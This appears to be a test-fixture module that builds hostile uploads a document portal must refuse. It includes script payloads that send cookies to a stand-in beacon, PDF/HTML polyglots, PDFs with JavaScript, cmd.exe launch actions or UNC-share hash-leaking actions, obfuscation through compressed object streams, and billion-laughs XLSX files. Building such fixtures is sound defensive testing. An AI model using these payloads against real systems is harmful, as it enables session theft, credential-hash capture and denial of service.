"""Hostile uploads, built the way an attacker would: each one tries to run a script in a staff member's browser.

Every payload announces itself if it ever runs: it sets ``window.name`` and ``document.title`` to ``PWNED`` and
fetches ``beacon`` (a stand-in server the browser test starts, which must stay silent).
"""

import io

import pikepdf
from PIL import Image


def script(beacon: str) -> str:
    return (f"window.name='PWNED';document.title='PWNED';fetch('{beacon}?'+document.cookie);"
            f"new Image().src='{beacon}img';")


def html_page(beacon: str) -> bytes:
    return f"<!doctype html><html><body><h1>SK</h1><script>{script(beacon)}</script></body></html>".encode()


def svg_with_script(beacon: str) -> bytes:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(beacon)}" width="10" height="10">'
            f"<script>{script(beacon)}</script></svg>").encode()


def real_pdf(text: str = "Scan") -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def polyglot_pdf_html(beacon: str) -> bytes:
    """Begins like a PDF, is really a web page: '%PDF-' then markup a browser would run if told it is HTML."""
    return b"%PDF-1.7\n" + html_page(beacon)


def polyglot_valid_pdf_with_html_tail(beacon: str) -> bytes:
    """A PDF any reader opens, with a web page glued after %%EOF."""
    return real_pdf() + html_page(beacon)


def _pdf_with(build) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_with_javascript(beacon: str) -> bytes:
    def build(pdf):
        action = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
            JS=pikepdf.String(f"app.launchURL('{beacon}pdf', true); this.submitForm('{beacon}form');")))
        pdf.Root.OpenAction = action
    return _pdf_with(build)


def pdf_with_direct_javascript(beacon: str) -> bytes:
    """The script as a direct dictionary inside the catalogue (not an object of its own)."""
    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                 JS=pikepdf.String(f"app.launchURL('{beacon}direct')"))
        pdf.Root.Names = pikepdf.Dictionary(Dests=pikepdf.Dictionary())
    return _pdf_with(build)


def pdf_with_launch() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), NewWindow=True))
    return _pdf_with(build)


def pdf_with_page_action(beacon: str) -> bytes:
    def build(pdf):
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.launchURL('{beacon}aa')")))
    return _pdf_with(build)


def pdf_with_embedded_file() -> bytes:
    def build(pdf):
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload")
    return _pdf_with(build)


def _link_with(action, *, compressed: bool = False) -> bytes:
    """A page whose one link annotation runs ``action`` (a pikepdf.Dictionary) when clicked; ``compressed``: the
    annotation inside a compressed object stream (none of its words in the file's bytes)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action)]))
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if compressed else pikepdf.ObjectStreamMode.preserve
    pdf.save(out, object_stream_mode=mode, compress_streams=True)
    return out.getvalue()


def pdf_opening_a_network_share() -> bytes:
    """On opening, fetch a file from a network share: a Windows reader sends the account's password hash there."""
    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\203.0.113.9\\x\\a.pdf"),
                                                 D=pikepdf.Array([0, pikepdf.Name.Fit]))
    return _pdf_with(build)


def pdf_opening_a_web_address(beacon: str) -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI,
                                                                   URI=pikepdf.String(f"{beacon}open")))
    return _pdf_with(build)


def pdf_with_javascript_link() -> bytes:
    """A link whose target is a ``javascript:`` address (not a /URI action: the string itself is caught)."""
    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.String("javascript:app.alert(1)")),
                      compressed=True)


def pdf_with_web_link(beacon: str) -> bytes:
    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(f"{beacon}link")))


def pdf_with_named_action() -> bytes:
    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print))


def pdf_with_hide_action() -> bytes:
    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.Hide, T=pikepdf.String("field"), H=True))


def pdf_with_submit_form(beacon: str) -> bytes:
    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String(f"{beacon}form")))


def pdf_with_goto_embedded() -> bytes:
    return _link_with(pikepdf.Dictionary(S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(R=pikepdf.Name.C)))


def pdf_with_open_action_going_to_a_page() -> bytes:
    """An /OpenAction that is an action dictionary, even a harmless /GoTo: every automatic action is refused."""
    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo,
                                                 D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]))
    return _pdf_with(build)


def pdf_with_action_in_an_object_stream() -> bytes:
    """The /GoToR action is an indirect object stored inside a compressed object stream: its name is nowhere in
    the file's bytes, only in the Flate-compressed stream qpdf decodes."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\203.0.113.9\\x\\b.pdf"),
                                                  D=pikepdf.Array([0, pikepdf.Name.Fit])))
    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                 Rect=[0, 0, 100, 100], A=action))
    pdf.pages[0].obj.Annots = pikepdf.Array([annot])
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    data = out.getvalue()
    assert b"GoToR" not in data and b"/ObjStm" in data
    return data


def ordinary_pdf_with_internal_links() -> bytes:
    """What office suites write: open at page one (a destination, not an action), a link to page two by /GoTo, a
    link by /Dest and a bookmark; nothing leaves the file, nothing runs by itself."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    pdf.Root.OpenAction = pikepdf.Array([first, pikepdf.Name.Fit])
    first.Annots = pdf.make_indirect(pikepdf.Array([
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
                           A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([second, pikepdf.Name.Fit]))),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 100, 100, 200],
                           Dest=pikepdf.Array([second, pikepdf.Name.XYZ, 0, 0, 0]))]))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Halaman 2", 1))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode."


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64


def jpeg_header_then_html(beacon: str) -> bytes:
    return b"\xff\xd8\xff\xe0" + html_page(beacon)


def real_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def real_jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (30, 30, 200)).save(out, "JPEG")
    return out.getvalue()


def refused(beacon: str) -> list[tuple[str, bytes, str]]:
    """(file name, bytes, what it is) for each file the portal must refuse."""
    return [
        ("surat.html", html_page(beacon), "HTML page"),
        ("foto.svg", svg_with_script(beacon), "SVG with script"),
        ("foto2.png", svg_with_script(beacon), "SVG named .png"),
        ("sk.pdf", polyglot_pdf_html(beacon), "polyglot %PDF-/HTML"),
        ("sk-tail.html", polyglot_valid_pdf_with_html_tail(beacon), "valid PDF with a web page appended"),
        ("skp.pdf", pdf_with_javascript(beacon), "PDF with JavaScript"),
        ("skp2.pdf", pdf_with_direct_javascript(beacon), "PDF with JavaScript as a direct object"),
        ("launch.pdf", pdf_with_launch(), "PDF with a launch action"),
        ("halaman.pdf", pdf_with_page_action(beacon), "PDF with a page-open action"),
        ("lampiran.pdf", pdf_with_embedded_file(), "PDF with an embedded file"),
        ("share.pdf", pdf_opening_a_network_share(), "PDF opening a network share (/GoToR on open)"),
        ("web.pdf", pdf_opening_a_web_address(beacon), "PDF opening a web address (/URI on open)"),
        ("jslink.pdf", pdf_with_javascript_link(), "PDF with a javascript: link"),
        ("weblink.pdf", pdf_with_web_link(beacon), "PDF with a /URI link"),
        ("named.pdf", pdf_with_named_action(), "PDF with a named action"),
        ("hide.pdf", pdf_with_hide_action(), "PDF with a hide action"),
        ("submit.pdf", pdf_with_submit_form(beacon), "PDF with a form that posts"),
        ("gotoe.pdf", pdf_with_goto_embedded(), "PDF with a /GoToE link"),
        ("openaction.pdf", pdf_with_open_action_going_to_a_page(), "PDF with an /OpenAction action dictionary"),
        ("objstm.pdf", pdf_with_action_in_an_object_stream(), "PDF with /GoToR inside a compressed object stream"),
        ("scan.pdf", exe(), "Windows executable named .pdf"),
        ("foto.jpg", elf(), "Linux executable named .jpg"),
        ("pas.jpg", jpeg_header_then_html(beacon), "JPEG header then HTML"),
    ]


# --- workbooks (issue 42): XML that costs the parser, and cells the database refuses --------------------------

def _workbook(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _with_part(data: bytes, name: str, change) -> bytes:
    """``data`` (an XLSX) with its part ``name`` replaced by ``change(old bytes)``."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info)
            target.writestr(info.filename, change(body) if info.filename == name else body)
    return out.getvalue()


NESTED_ENTITIES = (b'<?xml version="1.0"?>\n<!DOCTYPE worksheet [\n<!ENTITY a0 "hahahahahahahahahaha">\n'
                   + b"".join(b'<!ENTITY a%d "%s">\n' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 8)) + b"]>\n")


def xlsx_with_nested_entities(header: list[str]) -> bytes:
    """A workbook of a few KB whose first sheet declares entities nested seven deep (10**7 copies of 20 bytes once
    expanded, the "billion laughs"), used in its first data cell."""
    data = _workbook([header, ["x"] * len(header)])

    def change(sheet: bytes) -> bytes:
        body = sheet.split(b"?>", 1)[1] if sheet.startswith(b"<?xml") else sheet
        return NESTED_ENTITIES + body.replace(b'<c r="A2" t="inlineStr"><is><t>x</t></is></c>',
                                              b'<c r="A2" t="inlineStr"><is><t>&a7;</t></is></c>', 1)
    return _with_part(data, "xl/worksheets/sheet1.xml", change)


def xlsx_with_utf16_sheet(header: list[str]) -> bytes:
    """The same sheet re-encoded in UTF-16 (valid XML, but the words DOCTYPE/ENTITY would not show in its bytes)."""
    data = _workbook([header, ["x"] * len(header)])
    return _with_part(data, "xl/worksheets/sheet1.xml", lambda sheet: sheet.decode("utf-8").replace(
        "UTF-8", "UTF-16").encode("utf-16"))


def xlsx_with_cell(header: list[str], escaped: str) -> bytes:
    """A workbook whose first header cell ends with ``escaped``, written into its XML as it is (``&#x7f;``)."""
    data = _workbook([[header[0] + "PLACEHOLDER", *header[1:]], ["x"] * len(header)])

    def change(part: bytes) -> bytes:
        return part.replace(b"PLACEHOLDER", escaped.encode())
    return _with_part(_with_part(data, "xl/sharedStrings.xml", change), "xl/worksheets/sheet1.xml", change)
